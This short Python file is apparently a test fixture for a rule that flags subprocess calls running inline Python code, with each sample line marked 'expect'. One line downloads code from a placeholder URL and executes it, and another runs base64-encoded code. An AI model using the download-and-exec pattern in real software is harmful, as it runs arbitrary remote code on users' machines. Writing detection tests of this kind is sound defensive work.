import base64
import subprocess
import sys

subprocess.Popen([sys.executable, "-c", "import urllib.request; exec(urllib.request.urlopen('https://example.com/x').read())"])  # expect
subprocess.Popen([sys.executable, "-c", base64.b64decode("cHJpbnQoMSk=").decode()])  # expect

subprocess.Popen([sys.executable, "-c", "from gadget import agent"], close_fds=True)  # expect
